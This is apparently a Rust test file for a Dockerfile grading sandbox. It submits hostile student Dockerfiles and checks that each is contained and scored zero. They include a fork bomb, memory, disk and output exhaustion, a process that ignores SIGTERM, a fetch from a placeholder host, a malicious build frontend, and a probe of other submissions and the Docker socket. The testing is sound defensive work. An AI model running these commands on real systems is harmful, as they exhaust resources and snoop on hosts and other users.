//! A class in which most mean harm: each is refused or contained, it is said why, and the others get their marks.

use std::collections::BTreeMap;
use std::fs;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::{BASE, both, gone, plimsoll, project};

const RUBRIC: &str = "title = 'x'\nplimsoll = '0.1.0'\n\
    [engine]\npull = 'never'\nbuild-timeout = '20s'\nrun-timeout = '5s'\npids = 64\nmemory = '64m'\ndisk = '20MB'\n\
    [[criterion]]\nid = 'builds'\npoints = 1\nbuild = true\n\
    [[criterion]]\nid = 'greets'\npoints = 1\nneeds = 'builds'\nrun = { stdout = 'ahoy' }\n\
    [[criterion]]\nid = 'stops'\npoints = 1\nneeds = 'builds'\nsignal = { within = '1s', after = '1s', args = ['sleep', '70.1'] }\n";

#[test]
fn the_rest_is_graded() {
    let of = |lines: &str| format!("FROM {BASE}\n{lines}\n");
    let mut files = vec![
        ("rubric.toml".to_owned(), RUBRIC.to_owned()),
        ("class/z-good/Dockerfile".to_owned(), of("USER 1000\nCMD [\"echo\", \"ahoy\"]")),
    ];
    let harm = [
        ("bomb", "CMD bomb() { bomb | bomb & }; bomb; sleep 70.2"),
        ("flood", "CMD yes overboard70"),
        ("deaf", "CMD trap '' TERM; sleep 70.3; sleep 70.3"),
        ("endless", "RUN trap '' TERM; sleep 70.4; sleep 70.4"),
        ("network", "RUN wget -T 2 -q -O /x http://192.0.2.1/x"),
        ("hog", "CMD x=0123456789abcdef; while true; do x=$x$x; done"),
        (
            "filler",
            "CMD i=0; while true; do i=$((i+1)); dd if=/dev/zero of=/tmp/f$i bs=1M count=8 2>/dev/null; sleep 0.2; done",
        ),
        // Looks for whoever else hands in, and for this machine.
        (
            "spy",
            "COPY .. /all\nCMD ls -d /all/* /all/z-good /class /work /home/* /root/* /var/run/docker.sock 2>/dev/null; echo ahoy",
        ),
        ("frontend", "CMD [\"echo\", \"ahoy\"]"),
    ];
    for (name, lines) in harm {
        let text = if name == "frontend" { format!("# syntax=evil.invalid/x:1\n{}", of(lines)) } else { of(lines) };
        files.push((format!("class/{name}/Dockerfile"), text));
    }
    let files: Vec<(&str, &str)> = files.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
    let folder = project(&files);
    for engine in both() {
        let kind = engine.kind().as_str();
        let start = Instant::now();
        let said = plimsoll(
            folder.path(),
            &["grade", "rubric.toml", "class", "--engine", kind, "--format", "jsonl", "--out", kind, "--exit-zero"],
        );
        assert_eq!(said.code, Some(0), "{kind}: {said}");
        assert!(start.elapsed() < Duration::from_secs(400), "{kind}: {:?}", start.elapsed());
        let lines = fs::read_to_string(folder.path().join(kind).join("grades.jsonl")).expect("it is there");
        let sheets: BTreeMap<String, Value> = lines
            .lines()
            .map(|line| serde_json::from_str::<Value>(line).expect("it is JSON"))
            .map(|sheet| (sheet["student"]["id"].as_str().expect("a text").to_owned(), sheet))
            .collect();
        assert_eq!(sheets.len(), 10, "{kind}");
        let mark = |student: &str, at: usize| {
            let mark = &sheets[student]["marks"][at];
            (mark["points"].to_string(), mark["losses"][0]["what"].as_str().unwrap_or_default().to_owned())
        };
        for (student, at, words) in [
            ("bomb", 1, &["still running", "exited with code"][..]),
            ("flood", 1, &["it printed more than", "still running"]),
            ("deaf", 1, &["still running"]),
            ("endless", 0, &["the build did not finish within 20 s"]),
            ("network", 0, &["the image does not build"]),
            ("hog", 1, &["memory limit", "exited with code 137", "still running"]),
            ("filler", 1, &["wrote more than", "still running"]),
            ("frontend", 0, &["evil.invalid"]),
        ] {
            let (points, what) = mark(student, at);
            assert_eq!(points, "0", "{kind}: {student}: {what}");
            assert!(words.iter().any(|word| what.contains(word)), "{kind}: {student}: {what}");
        }
        // What it found is itself.
        let seen = sheets["spy"]["marks"].to_string();
        assert!(!seen.contains("z-good") && !seen.contains("docker.sock") && !seen.contains("/work"), "{kind}: {seen}");
        assert_eq!((mark("z-good", 0).0, mark("z-good", 1).0), ("1".to_owned(), "1".to_owned()), "{kind}: {lines}");
        for left in ["sleep 70.", "yes overboard70"] {
            assert!(gone(left), "{kind}: {left}");
        }
    }
}
